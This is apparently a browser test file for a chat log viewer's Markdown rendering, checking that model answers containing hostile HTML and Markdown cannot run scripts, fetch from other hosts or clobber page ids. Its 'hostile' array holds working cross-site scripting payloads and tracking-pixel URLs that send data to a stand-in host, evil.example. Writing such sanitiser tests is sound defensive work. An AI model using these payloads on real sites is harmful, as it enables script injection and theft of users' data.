// A model's text is hostile: whatever it contains, nothing runs, nothing is fetched, and nothing but text, links and
// layout is made of it.
import assert from 'node:assert/strict';
import { after, afterEach, before, beforeEach, describe, test } from 'node:test';
import { desktop, exportFile, openPage, openSite } from './open.mjs';

const hostile = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<img src="https://evil.example/pixel.png?said=secret">',
  '![what you said](https://evil.example/pixel.png?said=secret)',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '[click](javascript:window.pwned=1)',
  '[click](JaVaScRiPt:window.pwned=1)',
  '[click](java&#10;script:window.pwned=1)',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html,<script>window.pwned=1</script>)',
  '[ref]\n\n[ref]: javascript:window.pwned=1 "title"',
  '<javascript:window.pwned=1>',
  '<a href="javascript:window.pwned=1" onclick="window.pwned=1">x</a>',
  '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<svg onload="window.pwned=1"><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example/"><input name=q autofocus onfocus=window.pwned=1><button>go</button></form>',
  '<style>body { background: url(https://evil.example/css) }</style><link rel=stylesheet href="https://evil.example/css">',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<video src="https://evil.example/v" autoplay><audio src="https://evil.example/a" autoplay></audio></video>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/bg)" class="sheet" id="send">over all</div>',
  '<p id="prompt">clobbered</p><a name="location" id="location">x</a>',
  '```js" onmouseover="window.pwned=1\nx\n```',
  '```html\n<script>window.pwned = 1</script><img src=x onerror=window.pwned=1>\n```',
  '| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| [x](javascript:window.pwned=1) | `<script>` |',
  '[x](https://example.org/"onmouseover="window.pwned=1)',
  '<https://example.org/"onclick="window.pwned=1>',
  '# <svg><script>window.pwned=1</script></svg>\n\n- [ ] <input type=text value=x>\n- <details open ontoggle=window.pwned=1>',
];

/** What of an element's content is not harmless. Runs in the page. @param {Element} root */
function findHarm(root) {
  const allowed = new Set(['P', 'BR', 'HR', 'STRONG', 'EM', 'DEL', 'CODE', 'PRE', 'BLOCKQUOTE', 'UL', 'OL', 'LI', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6',
    'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'A', 'SPAN', 'DIV', 'FIGURE', 'FIGCAPTION', 'BUTTON']);
  const attributes = new Set(['href', 'title', 'class', 'align', 'start', 'type', 'target', 'rel', 'tabindex', 'role', 'aria-label']);
  return [...root.querySelectorAll('*')].flatMap((node) => [
    ...(allowed.has(node.tagName) ? [] : [`<${node.tagName}>`]),
    ...[...node.attributes].flatMap(({ name, value }) => {
      if (!attributes.has(name)) return [`${node.tagName} ${name}=${value}`];
      if (name === 'href' && !/^(?:https?|mailto):/i.test(value)) return [`href=${value}`];
      if (name === 'href' && node.getAttribute('rel') !== 'noopener noreferrer nofollow') return [`rel of ${value}`];
      return [];
    }),
  ]);
}

describe('Markdown', () => {
  /** @type {import('./open.mjs').Site} */
  let site;
  /** @type {Awaited<ReturnType<typeof openPage>>} */
  let opened;
  /** @type {import('./open.mjs').Page} */
  let page;

  before(async () => { site = await openSite(); });
  after(() => site?.close());
  beforeEach(async () => {
    opened = await openPage(site, { viewport: desktop, permissions: ['clipboard-read', 'clipboard-write'] });
    page = opened.page;
  });
  afterEach(() => opened.close()); // fails if any other host was asked

  /** @param {string[]} answers */
  async function show(answers) {
    const messages = answers.flatMap((content) => [{ role: 'user', content: 'Well?' }, { role: 'assistant', content, note: '1 token' }]);
    await page.setInputFiles('#import', exportFile([{ id: 'test', messages }]));
    await page.click('#conversations .open');
    await page.waitForFunction((count) => document.querySelectorAll('.turn.model .note').length === count, answers.length);
  }

  test('nothing hostile gets through', async () => {
    await show(hostile);
    await page.waitForTimeout(500); // for whatever would be fetched or run
    assert.equal(await page.locator('.turn.model').count(), hostile.length);
    const harm = await page.evaluate(`(${findHarm})(document.querySelector('#log'))`).then((found) => /** @type {string[]} */ (found)
      .filter((what) => !/^(?:<ARTICLE>|DETAILS|SUMMARY)/.test(what)));
    assert.deepEqual(harm, []);
    assert.equal(await page.evaluate(() => /** @type {any} */ (window).pwned), undefined);
    assert.equal(await page.locator('#prompt').count(), 1, 'no id is taken');
    assert.match(await page.locator('.turn.model').nth(0).innerText(), /<script>/, 'HTML is shown as text');
    assert.match(await page.locator('.turn.model').nth(3).innerText(), /image: what you said/, 'an image is a link');
  });

  test('the second wall holds without the first, and the search for harm finds it where there is no wall', async () => {
    const search = (/** @type {boolean} */ walled) => page.evaluate(`(async () => {
      const { sanitise } = await import('/sanitise.js');
      return ${JSON.stringify(hostile)}.map((sample) => {
        // a document of its own: nothing in it is fetched or run
        const open = new DOMParser().parseFromString(sample, 'text/html').body;
        const holder = document.createElement('div');
        if (${walled}) holder.append(sanitise(sample));
        return (${findHarm})(${walled} ? holder : open);
      });
    })()`).then((found) => /** @type {string[][]} */ (found));
    assert.deepEqual((await search(true)).flat(), []);
    assert.ok((await search(false)).filter((found) => found.length).length > 12);
  });

  test('what is allowed looks as it should, and streams block by block', async () => {
    const kept = await page.evaluate(async () => {
      const { MarkdownView } = await import(/** @type {any} */ ('/markdown.js'));
      const container = document.createElement('div');
      document.body.append(container);
      const view = new MarkdownView(container);
      view.append('# Title\n\nFirst *words*\n\n');
      view.finish();
      const first = container.querySelector('h3');
      for (const piece of ['Second [l', 'ink](https://exam', 'ple.org)\n\n```js\nlet x', ' = 1;\n```\n\n- [x] done', '\n- <br>two\n\n[a]\n\n[a]: https://example.org/a']) view.append(piece);
      view.finish();
      await new Promise((resolve) => setTimeout(resolve, 500)); // the highlighter is fetched
      return {
        links: [...container.querySelectorAll('a')].map(({ href }) => href),
        code: container.querySelector('pre')?.textContent,
        keyword: container.querySelector('.hljs-keyword')?.textContent,
        box: container.querySelector('li')?.textContent,
        heading: first?.textContent,
        blocks: container.children.length,
      };
    });
    assert.deepEqual(kept, {
      links: ['https://example.org/', 'https://example.org/a'], code: 'let x = 1;\n', keyword: 'let', box: '☑ done', heading: 'Title', blocks: 6,
    });
  });

  test('code and answers can be copied', async () => {
    await show(['Here:\n\n```python\nprint("<b>")\n```']);
    await page.getByRole('button', { name: 'Copy code' }).click();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'print("<b>")\n');
    await page.getByRole('button', { name: 'Copy the answer' }).click();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'Here:\n\n```python\nprint("<b>")\n```');
  });
});
